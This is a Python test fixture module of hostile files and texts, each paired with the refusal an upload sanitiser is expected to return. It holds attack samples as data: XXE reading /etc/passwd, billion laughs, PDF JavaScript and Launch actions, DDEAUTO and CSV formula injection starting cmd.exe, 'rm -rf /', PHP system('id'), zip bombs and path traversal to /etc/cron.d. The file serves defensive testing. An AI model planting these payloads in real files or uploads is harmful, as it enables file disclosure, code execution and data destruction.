"""The hostile files and texts, each with its row of trust.md, its name and the one outcome that is asserted.

An outcome is the code of a refusal, or "taken": then what is kept no longer holds what was hostile.
"""
# ruff: noqa: E501 - one row each

import gzip
import tarfile
import warnings
import zipfile
import zlib
from io import BytesIO

from PIL import Image, ImageCms
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter

from tests.core.files.made import (
    SOUND,
    box,
    film,
    moving,
    office,
    office_of,
    open_document,
    pdf,
    picture,
    png_of,
    related,
    zipped,
)

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
JS = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><l>&d;</l>'
)
XXE = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'
PARAMETER = '<?xml version="1.0"?><!DOCTYPE l SYSTEM "https://evil.example.com/x.dtd"><l/>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def field(*runs):
    """A Word document whose field is cut into runs."""
    cut = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f'<?xml version="1.0"?><w:document xmlns:w="urn:w">{cut}</w:document>'


def locked_pdf():
    made, writer = BytesIO(), PdfWriter()
    writer.add_blank_page(200, 300)
    writer.encrypt("", "owner", algorithm="RC4-128")
    writer.write(made)
    return made.getvalue()


def packed_pdf(packed=b""):
    """The action stands in a compressed object stream, where no search of the bytes finds it."""
    data = packed or zlib.compress(b"6 0 " + JS.encode())
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(data)
    body = b"%PDF-1.7\n"
    places = {}
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] >>",
        5: head + data + b"\nendstream",
    }
    for number, one in objects.items():
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    at = len(body)
    places[7] = at
    rows = b"".join(
        bytes([2]) + (5).to_bytes(4, "big") + b"\0\0"
        if number == 6
        else bytes([1 if number in places else 0]) + places.get(number, 0).to_bytes(4, "big") + b"\0\0"
        for number in range(8)
    )
    listed = b"<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream" % (len(rows), rows)
    return body + b"7 0 obj\n" + listed + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % at


def nested_pdf():
    return pdf("[" * 5000 + "]" * 5000)


def inflating_pdf():
    """A stream of objects that is a thousand times larger than it seems."""
    packer = zlib.compressobj()
    blanks = b"".join(packer.compress(b" " * 1_000_000) for _ in range(200))
    return packed_pdf(blanks + packer.flush())


def encrypted_zip():
    made = bytearray(office())
    made[6] |= 1
    at = made.rfind(b"PK\x01\x02", 0, made.find(b"PK\x05\x06"))
    while at >= 0:
        made[at + 8] |= 1
        at = made.rfind(b"PK\x01\x02", 0, at)
    return bytes(made)


def many_parts():
    return office_of([(f"word/media/{number}.xml", "") for number in range(6000)])


def nested_bomb():
    inner = office_of([("word/media/a.xml", b" " * 30_000_000)])
    return office_of([("word/embeddings/one.docx", inner)])


def matryoshka():
    inner = office_of([("word/embeddings/two.xlsx", office("xlsx"))])
    return office_of([("word/embeddings/one.docx", inner)])


def linked():
    link = zipfile.ZipInfo("word/media/link")
    link.external_attr = 0o120777 << 16
    return office_of([(link, "/etc/passwd")])


def twice():
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return office_of([("word/Styles.xml", "<a/>"), ("word/styles.xml", "<b/>")])


def tarred():
    made = BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("a"))
    return made.getvalue()


def deep_xml():
    return office(word__deep_dot_xml="<a>" * 5000 + "</a>" * 5000)


def photo_with_place():
    exif = Image.Exif()
    exif[0x010F] = "Camera of Ada"
    exif.get_ifd(0x8825)[2] = (51.0, 30.0, 26.0)
    return picture("JPEG", exif=exif, comment=b"secret comment")


def png_with_words():
    words = PngInfo()
    words.add_text("Author", "secret comment")
    words.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>secret comment</x:xmpmeta>")
    return picture("PNG", pnginfo=words)


def gif_with_words():
    return moving("GIF", comment=b"secret comment")


def webp_with_words():
    return picture("WEBP", xmp=b"<x:xmpmeta>secret comment</x:xmpmeta>")


def photo_with_profile():
    made = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return picture("JPEG", icc_profile=made.replace(b"sRGB", b"evil"))


# (what it is, row, name, how it is made, outcome)
PICTURES = [
    ("svg with a script", "F-01", "a.svg", b'<svg onload="alert(1)" xmlns="http://www.w3.org/2000/svg"/>', "kind"),
    ("svg called png", "F-01", "a.png", b'<svg onload="alert(1)" xmlns="http://www.w3.org/2000/svg"/>', "mismatch"),
    ("html called gif", "F-01", "a.gif", b"<html><script>alert(1)</script>", "mismatch"),
    ("gif that is a script too", "F-01", "a.gif", b"GIF89a=1;alert(1)//" + b"a" * 60, "mismatch"),
    ("gif with a page behind it", "F-01", "a.gif", picture("GIF") + b"<script>secret comment</script>", "taken"),
    ("png with an archive behind it", "F-01", "a.png", picture() + zipped([("x", "secret comment")]), "taken"),
    ("jpeg called png", "F-01", "a.png", picture("JPEG"), "mismatch"),
    ("tiff", "F-04", "a.tiff", picture("TIFF"), "kind"),
    ("tiff called jpg", "F-04", "a.jpg", picture("TIFF"), "mismatch"),
    ("bmp called png", "F-04", "a.png", picture("BMP"), "mismatch"),
    ("50,000 by 50,000 pixels", "F-04", "a.png", png_of(50_000, 50_000), "pixels"),
    ("two thousand million pixels a side", "F-04", "a.png", png_of(2**31 - 1, 2**31 - 1), "pixels"),
    ("no pixels at all", "F-04", "a.png", png_of(0, 0), "mismatch"),
    ("png cut short", "F-04", "a.png", picture(size=(400, 400))[:120], "damaged"),
    ("jpeg cut short", "F-04", "a.jpg", picture("JPEG", size=(400, 400))[:300], "damaged"),
    ("gif of 65,535 by 65,535", "F-04", "a.gif", picture("GIF")[:6] + b"\xff" * 4 + picture("GIF")[10:], "pixels"),
    ("gif of 400 frames", "F-04", "a.gif", lambda: moving("GIF", 400), "pixels"),
    ("gif of large frames", "F-04", "a.gif", lambda: moving("GIF", 30, (1000, 1000)), "pixels"),
    ("webp of 400 frames", "F-04", "a.webp", lambda: moving("WEBP", 400, lossless=True), "pixels"),
    ("png of 400 frames", "F-04", "a.png", lambda: moving("PNG", 400), "pixels"),
    ("place and camera in a jpeg", "F-04", "a.jpg", photo_with_place, "taken"),
    ("words in a png", "F-04", "a.png", png_with_words, "taken"),
    ("words in a moving gif", "F-04", "a.gif", gif_with_words, "taken"),
    ("words in a webp", "F-04", "a.webp", webp_with_words, "taken"),
    ("a colour profile that is not one", "F-04", "a.jpg", photo_with_profile, "taken"),
]
PDFS = [
    ("pdf with a script", "F-01", "a.pdf", pdf(JS, root="/OpenAction 5 0 R"), "active"),
    ("pdf with a script in its names", "F-01", "a.pdf",
     pdf("<< /Names [(a) 6 0 R] >>", JS, root="/Names << /JavaScript 5 0 R >>"), "active"),
    ("pdf with a name written in digits", "F-01", "a.pdf",
     pdf("<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>", root="/OpenAction 5 0 R"), "active"),
    ("pdf with a script in a packed object", "F-01", "a.pdf", packed_pdf, "active"),
    ("pdf with a script that no table lists", "F-01", "a.pdf", pdf() + b"9 0 obj\n" + JS.encode() + b"\nendobj", "active"),
    ("pdf that launches", "F-01", "a.pdf", pdf("<< /S /Launch /F (cmd.exe) >>", root="/OpenAction 5 0 R"), "active"),
    ("pdf that sends a form", "F-01", "a.pdf", pdf("<< /S /SubmitForm /F (https://evil.example.com) >>"), "active"),
    ("pdf with a form of its own language", "F-01", "a.pdf", pdf(root="/AcroForm << /XFA (x) >>"), "active"),
    ("pdf that acts when a page opens", "F-01", "a.pdf", pdf(f"<< /AA << /O {JS} >> >>"), "active"),
    ("pdf with a file inside", "F-01", "a.pdf", pdf("<< /Type /Filespec /EF << /F 6 0 R >> >>"), "embedded"),
    ("pdf with a note that holds a file", "F-01", "a.pdf", pdf("<< /Type /Annot /Subtype /FileAttachment >>"), "embedded"),
    ("pdf with a film", "F-01", "a.pdf", pdf("<< /Type /Annot /Subtype /RichMedia >>"), "embedded"),
    ("pdf with a password", "F-03", "a.pdf", locked_pdf, "password"),
    ("pdf that is only a beginning", "F-01", "a.pdf", b"%PDF-1.7\n1 0 obj\n", "damaged"),
    ("program called pdf", "F-01", "a.pdf", b"MZ\x90\x00" + b"\0" * 200, "mismatch"),
    ("page before a pdf", "F-01", "a.pdf", b"<script>alert(1)</script>" + pdf(), "mismatch"),
    ("pdf nested five thousand deep", "F-03", "a.pdf", nested_pdf, "bomb"),
    ("pdf that inflates", "F-03", "a.pdf", inflating_pdf, "bomb"),
    ("pdf whose pages turn in a ring", "F-03", "a.pdf", pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), "taken"),
]  # fmt: skip
OFFICES = [
    ("docx with macros by its name", "F-05", "a.docm", office(), "macros"),
    ("docx with macros by its types", "F-05", "a.docx",
     office(types="application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    ("docx with a macro part", "F-05", "a.docx", office(word__vbaProject_dot_bin=b"x"), "macros"),
    ("xlsx with sheets of old macros", "F-05", "a.xlsx", office("xlsx", xl__macrosheets__s_dot_xml="<a/>"), "macros"),
    ("odt with a script", "F-05", "a.odt", open_document(extra=[("Basic/Standard/a.xml", "<a/>")]), "macros"),
    ("odt that acts on an event", "F-05", "a.odt",
     open_document(body='<office:event-listeners><script:event-listener/></office:event-listeners>'), "macros"),
    ("docx with a template from elsewhere", "F-05", "a.docx",
     office(word___rels__settings_dot_xml_dot_rels=related("attachedTemplate", "https://evil.example.com/a.dotm")), "outside"),
    ("docx with a picture from elsewhere", "F-05", "a.docx",
     office(word___rels__document_dot_xml_dot_rels=related("image", "https://evil.example.com/a.png")), "outside"),
    ("docx with a link to another machine's folder", "F-05", "a.docx",
     office(word___rels__document_dot_xml_dot_rels=related("hyperlink", r"\\evil.example.com\x")), "outside"),
    ("docx with a link that runs", "F-05", "a.docx",
     office(word___rels__document_dot_xml_dot_rels=related("hyperlink", "javascript:alert(1)")), "outside"),
    ("docx with a piece of a page", "F-05", "a.docx",
     office(word___rels__document_dot_xml_dot_rels=related("aFChunk", "x.xml", "")), "outside"),
    ("docx that starts a program", "F-05", "a.docx", office(word__a_dot_xml=field("DDEAUTO cmd.exe /c calc")), "outside"),
    ("docx that starts a program in pieces", "F-05", "a.docx", office(word__a_dot_xml=field("DD", "EAU", "TO c")), "outside"),
    ("xlsx with links to other workbooks", "F-05", "a.xlsx",
     office("xlsx", xl__externalLinks__externalLink1_dot_xml="<a/>"), "outside"),
    ("ods that asks a program", "F-05", "a.ods",
     open_document("spreadsheet", '<table:dde-link/>'), "outside"),
    ("odt with a picture from elsewhere", "F-05", "a.odt",
     open_document(body='<draw:image xlink:href="https://evil.example.com/a.png"/>'), "outside"),
    ("docx with an object that executes", "F-05", "a.docx", office(word__embeddings__oleObject1_dot_bin=OLE), "embedded"),
    ("docx with an object under another name", "F-05", "a.docx", office(word__media__image1_dot_png=OLE), "embedded"),
    ("docx with a program inside", "F-05", "a.docx", office(word__media__setup_dot_exe=b"MZ"), "active"),
    ("docx with a control", "F-05", "a.docx", office(word__activeX__activeX1_dot_xml="<a/>"), "active"),
    ("billion laughs", "F-05", "a.docx", office(word__a_dot_xml=LAUGHS), "entities"),
    ("entity that reads a file", "F-05", "a.docx", office(word__a_dot_xml=XXE), "entities"),
    ("entity in sixteen bits", "F-05", "a.docx", office(word__a_dot_xml=XXE.replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16")), "entities"),
    ("types from elsewhere", "F-05", "a.docx", office(word__a_dot_xml=PARAMETER), "entities"),
    ("entity in a table's part", "F-05", "a.xlsx", office("xlsx", xl__sharedStrings_dot_xml=LAUGHS), "entities"),
    ("entity in an odt", "F-05", "a.odt", open_document(extra=[("styles.xml", LAUGHS)]), "entities"),
    ("xml five thousand deep", "F-05", "a.docx", deep_xml, "bomb"),
    ("xml that is none", "F-05", "a.docx", office(word__a_dot_xml="<a><b></a>"), "damaged"),
    ("docx with a password", "F-03", "a.docx", OLE, "password"),
    ("docx with locked parts", "F-03", "a.docx", encrypted_zip, "password"),
    ("zip bomb", "F-03", "a.docx", lambda: office_of([("word/media/a.xml", b" " * 30_000_000)]), "bomb"),
    ("zip bomb inside", "F-03", "a.docx", nested_bomb, "bomb"),
    ("six thousand parts", "F-03", "a.docx", many_parts, "bomb"),
    ("file in a file in a file", "F-03", "a.docx", matryoshka, "embedded"),
    ("archive inside", "F-03", "a.docx", office(word__media__a_dot_zip=zipped([("a", "b")])), "embedded"),
    ("part that leads elsewhere", "F-03", "a.docx", office_of([("../../etc/cron.d/x", "x")]), "damaged"),
    ("part with a whole path", "F-03", "a.docx", office_of([("/etc/cron.d/x", "x")]), "damaged"),
    ("part that is a link", "F-03", "a.docx", linked, "damaged"),
    ("two parts of one name", "F-03", "a.docx", twice, "damaged"),
    ("zip", "F-03", "a.zip", zipped([("a.txt", "x")]), "kind"),
    ("tar", "F-03", "a.tar", tarred, "kind"),
    ("packed csv", "F-03", "a.csv", gzip.compress(b"a,b\n" * 99), "mismatch"),
    ("zip called docx", "F-03", "a.docx", zipped([("a.txt", "x")]), "mismatch"),
    ("docx called xlsx", "F-01", "a.xlsx", office(), "mismatch"),
    ("old Word file", "F-05", "a.doc", OLE, "kind"),
    ("picture with a docx behind it", "F-01", "a.docx", picture("GIF") + office(), "mismatch"),
    ("docx without its end", "F-03", "a.docx", SOUND["docx"][:-30], "damaged"),
]  # fmt: skip
TEXTS = [
    ("page called txt", "F-01", "a.txt", b"  <!DOCTYPE html><html></html>", "active"),
    ("script in a text", "F-01", "a.txt", b"hello <script>alert(1)</script>", "active"),
    ("script across two blocks", "F-01", "a.md", b"a" * 65_533 + b"<script>alert(1)</script>", "active"),
    ("script in sixteen bits", "F-01", "a.txt", "hello <script>".encode("utf-16"), "active"),
    ("shell script called txt", "F-01", "a.txt", b"#!/bin/sh\nrm -rf /\n", "active"),
    ("php", "F-01", "a.md", b"# Plan\n<?php system('id'); ?>", "active"),
    ("rich text called txt", "F-01", "a.txt", b"{\\rtf1\\object}", "active"),
    ("letter with a page called txt", "F-01", "a.txt", b"MIME-Version: 1.0\nContent-Type: text/html\n", "active"),
    ("table that starts a program", "F-11", "a.csv", b"name,score\n=cmd|' /C calc'!A0,4\n", "outside"),
    ("table that starts a program, plus", "F-11", "a.csv", b'name\n"+cmd|\' /C calc\'!A0"\n', "outside"),
    ("bytes called txt", "F-01", "a.txt", bytes(range(256)), "mismatch"),
    ("NUL in a text", "F-09", "a.txt", b"a\x00b", "mismatch"),
    ("half a character in sixteen bits", "F-09", "a.txt", b"\xff\xfea", "mismatch"),
    ("nothing", "F-01", "a.txt", b"", "empty"),
    ("program", "F-01", "run.exe", b"MZ", "kind"),
    ("page", "F-01", "a.html", b"<html></html>", "kind"),
    ("xml", "F-01", "a.xml", XXE.encode(), "kind"),
    ("no ending", "F-01", "noname", b"hello", "kind"),
    ("two endings", "F-01", "a.pdf.exe", pdf(), "kind"),
    ("an ending turned round", "F-06", "a\u202efdp.exe", pdf(), "kind"),
    ("film that is text", "F-01", "a.mp4", b"not a film at all", "mismatch"),
    ("film of another brand", "F-01", "a.mp4", film(b"heic"), "mismatch"),
    ("film with a box that is too long", "F-01", "a.mp4", film() + box(b"mdat", b"x")[:-1], "damaged"),
    ("film with a page behind it", "F-01", "a.mp4", film() + b"<html><script>alert(1)</script></html>", "damaged"),
    ("film without a table", "F-01", "a.mp4", film()[:24], "damaged"),
    ("film of a hundred thousand boxes", "F-04", "a.mp4", lambda: film() + box(b"free") * 100_000, "damaged"),
]  # fmt: skip
HOSTILE = [*PICTURES, *PDFS, *OFFICES, *TEXTS]
